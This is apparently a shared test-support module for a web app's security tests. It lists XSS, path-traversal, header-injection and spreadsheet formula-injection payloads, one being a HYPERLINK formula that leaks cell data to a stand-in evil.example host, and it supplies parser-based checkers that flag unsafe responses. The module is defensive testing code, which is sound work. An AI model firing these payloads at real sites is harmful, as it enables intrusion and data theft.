"""Attack payloads and the checks that judge a response, shared by tests/test_security.py and
benchmarks/security_scan.py (which runs the larger matrix and records the counts).

An HTML answer is judged by parsing it (not by searching text), so an escaped payload inside a quoted
attribute is not a false alarm and a real tag or event handler is never missed.
"""

from __future__ import annotations

import ast
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import anyio

# Script injection in the contexts a reflected value can land in: text, quoted attributes, URLs, markup
# that re-parses (math/style), template syntax, an already percent-encoded payload.
XSS = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    '" autofocus onfocus="alert(1)',
]
XSS_MORE = [
    "' onmouseover='alert(1)",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "{{7*7}}<b>{% raw %}",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "NL<script>alert(1)</script>",
    "cobalt\"'><body onload=alert(1)>",
]

# Names that would leave the served folders if joined to a path naively; %2f and %5c are / and \.
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%2F..%2Fsrc%2Fgrondstof%2Fweb%2Fapp.py",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fapp.py",
    "..%5c..%5capp.py",
    "....//....//etc/passwd",
    "..",
    "%2e%2e",
    "/etc/passwd",
    "%00../../etc/passwd",
    "..%252f..%252fetc%252fpasswd",
]
# Text that must never be served: a system file and this package's own source (markers no page carries:
# the dashboard itself speaks of "imports").
SECRETS = ("root:x:0:0", "def create_app(", "from grondstof", "from __future__ import")

# Text that would split or smuggle a response header if it reached one unchanged.
HEADER_INJECTION = [
    "NL\r\n",
    "NL\r\nX-Injected: 1",
    "NL\nSet-Cookie: a=b",
    "NL\r",
    "NL\x00",
    "NL\t",
    "NL\x85",
    "Tu\u0308rkiye",
    "T\u00fcrkiye",
    "\u4e2d\u56fd",
    'NL"; filename="evil.exe',
]

# URLs where a parameter value could reach a response header (Content-Disposition) or a log line.
HEADER_URLS = [
    "/report/country/NL.html?country={}",
    "/report/material/cobalt.html?country={}",
    "/report/material/cobalt.xlsx?country={}",
    "/download/imports.csv?material=cobalt&country={}",
    "/api/v1/imports?material=cobalt&country={}",
    "/?country={}",
    "/material/cobalt?country={}",
    "/alerts?lang=en&country={}",
    "/scan/report.html?template=ev_nmc&country={}",
]

# Cells a spreadsheet would run as a formula (OWASP CSV injection), with the full-width variants.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# Every path name or query that becomes a file path, or is looked up among files.
NAMES_THAT_BECOME_PATHS = [
    "/static/{}",
    "/static/vendor/{}",
    "/static-gen/{}",
    "/report/scenario/{}.html",
    "/report/scenario/{}.json",
    "/report/material/{}.html",
    "/report/country/{}.xlsx",
    "/download/{}.csv",
    "/scan/input/{}.csv",
    "/scan/report.{}",
    "/material/{}",
    "/{}",
]

# Pages and the parameters each reflects (in forms, headings, error messages); the base makes the page run.
PAGES: list[tuple[str, dict[str, str], list[str]]] = [
    ("/", {}, ["country", "year", "lang"]),
    ("/material/cobalt", {}, ["country", "lang"]),
    ("/compare", {}, ["material", "countries", "year"]),
    ("/partner", {}, ["country", "partner", "years", "source"]),
    ("/alerts", {}, ["country", "since"]),
    ("/benchmarks", {}, ["year"]),
    (
        "/scenarios/cutoff",
        {"materials": "cobalt", "suppliers": "CD", "country": "NL"},
        ["preset", "suppliers"],
    ),
    ("/scenarios/stockpile", {"materials": "cobalt"}, ["country", "materials", "days", "basis"]),
    ("/scenarios/transition", {}, ["by", "recycled_pct"]),
    ("/technologies", {}, ["per"]),
    ("/balance", {"material": "cobalt"}, ["material", "country", "year"]),
    ("/materials", {}, ["lang"]),
    ("/scan", {}, ["template", "quantity", "country", "date"]),
    ("/scan", {"template": "ev_nmc"}, ["country", "quantity", "lang"]),
]
PATHS = ["/material/{}", "/country/{}", "/report/material/{}.html", "/report/country/{}.html", "/nope/{}"]

# Routes that accept a method other than GET/HEAD. A new one needs a security review (CSRF: the Origin check
# in web/security.py; uploads: size limits, nothing written to disk) before it is listed here.
# The scanner's uploads (reviewed): a foreign Origin is refused (403) before they run; the session cookie is
# SameSite=Strict and HttpOnly; body size, rows and sessions are capped (grondstof.scanner.limits); the file
# stays in memory (tests/test_scanner_web.py); they read, compute and answer, and change no store.
WRITE_ROUTES: set[str] = {
    "/scan",
    "/scan/session",
    "/scan/delete",
    "/api/v1/scan/upload",
    "/api/v1/scan/upload/report.{fmt}",
}

SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy", "x-frame-options")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href")
FORBIDDEN_TAGS = ("iframe", "object", "embed", "base", "frame", "applet")


class _Inspector(HTMLParser):
    def __init__(self, styles_allowed: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.styles_allowed = styles_allowed

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name: (value or "") for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}> element")
        if tag == "meta" and names.get("http-equiv", "").lower() == "refresh":
            self.findings.append("<meta http-equiv=refresh>")
        for name, value in names.items():
            if name.startswith("on"):
                self.findings.append(f"event handler {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value.strip().lower().replace("\t", "").startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.findings.append(f"{name}={value[:40]!r} on <{tag}>")
            if name == "style" and not self.styles_allowed:
                self.findings.append(f"style attribute on <{tag}> (the CSP blocks it)")
        if tag == "script":
            source = names.get("src", "")
            if not source:
                self.findings.append("inline <script>")
            elif not source.startswith("/"):
                self.findings.append(f"script from {source!r}")
        if tag == "style" and not self.styles_allowed:
            self.findings.append("inline <style> (the CSP blocks it)")


def html_findings(text: str, styles_allowed: bool = False) -> list[str]:
    """What in an HTML page could run script or load from elsewhere: inline scripts, event handlers,
    javascript: URLs, frames, <base>, refresh, and (unless ``styles_allowed``: the HTML report's own policy
    allows them) inline styles the page's CSP would block. Empty for a safe page."""
    inspector = _Inspector(styles_allowed)
    inspector.feed(text)
    inspector.close()
    return inspector.findings


def reflected(payload: str, body: str) -> bool:
    """True when a payload with markup characters appears unescaped in an HTML body."""
    return any(c in payload for c in "<>\"'") and payload in body


def response_findings(response: Any, payload: str | None = None) -> list[str]:
    """Findings on one response: a server error, a missing security header, unsafe HTML, a reflected
    payload, a sniffable content type."""
    findings = []
    if response.status_code >= 500:
        findings.append(f"server error {response.status_code}")
    for header in SECURITY_HEADERS:
        if header not in response.headers:
            findings.append(f"no {header} header")
    content_type = response.headers.get("content-type", "")
    if content_type.startswith("text/html"):
        policy = response.headers.get("content-security-policy", "")
        findings.extend(html_findings(response.text, styles_allowed="style-src 'unsafe-inline'" in policy))
        if payload is not None and reflected(payload, response.text):
            findings.append("payload reflected unescaped")
    elif not content_type:
        findings.append("no content type")
    return findings


def _is_number(text: str) -> bool:
    if text != text.strip():  # float() ignores surrounding white space; a spreadsheet does not
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(rows: list[list[Any]]) -> list[str]:
    """Text cells of a table that a spreadsheet would read as a formula; a plain number such as ``-1.5``
    (every CSV cell is text) is a number, not a formula."""
    return [
        c
        for row in rows
        for c in row
        if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _is_number(c)
    ]


def asgi_get(
    app: Any, path: str, query: bytes = b"", headers: list[tuple[bytes, bytes]] | None = None
) -> Any:
    """Send one GET straight to the ASGI app with ``path`` exactly as given: no client normalises it (an
    HTTP client would resolve ``..`` and may decode ``%2e``). Returns (status, headers, body)."""

    async def call() -> tuple[int, dict[str, str], bytes]:
        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": "GET",
            "scheme": "http",
            "path": path,
            "raw_path": path.encode("utf-8", "surrogateescape"),
            "query_string": query,
            "root_path": "",
            "headers": headers if headers is not None else [(b"host", b"127.0.0.1:8000")],
            "client": ("127.0.0.1", 50000),
            "server": ("127.0.0.1", 8000),
        }
        sent: list[dict[str, Any]] = []
        requested = False
        done = anyio.Event()

        async def receive() -> dict[str, Any]:
            # As a server does (ASGI spec): the request once, then wait until the client goes away.
            nonlocal requested
            if not requested:
                requested = True
                return {"type": "http.request", "body": b"", "more_body": False}
            await done.wait()
            return {"type": "http.disconnect"}

        async def send(message: dict[str, Any]) -> None:
            sent.append(message)

        try:
            await app(scope, receive, send)
        finally:
            done.set()
        start = next(m for m in sent if m["type"] == "http.response.start")
        body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
        names = {k.decode("latin-1").lower(): v.decode("latin-1") for k, v in start["headers"]}
        return start["status"], names, body

    return anyio.run(call)


def routes_of(app: Any) -> list[tuple[str, set[str]]]:
    """Every (path, methods) the app serves, through included routers (FastAPI wraps them)."""
    out = []
    for route in app.routes:
        inner = getattr(route, "original_router", None)
        if inner is not None:
            out.extend(routes_of(inner))
        elif getattr(route, "methods", None) is not None:
            out.append((route.path, set(route.methods)))
    return out


def yaml_offenders(package: Path) -> list[str]:
    """Calls in the package's Python files that could read YAML with an unsafe loader: ``yaml.load``,
    ``unsafe_load``, ``full_load`` (and their ``_all`` forms) or any ``*load`` given a ``Loader``."""
    offenders = []
    for path in sorted(package.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                if node.func.attr in ("load", "load_all", "unsafe_load", "full_load", "unsafe_load_all"):
                    if isinstance(node.func.value, ast.Name) and node.func.value.id == "yaml":
                        offenders.append(f"{path.name}:{node.lineno}")
                if node.func.attr.endswith("load") and any(k.arg == "Loader" for k in node.keywords):
                    offenders.append(f"{path.name}:{node.lineno}")
    return offenders
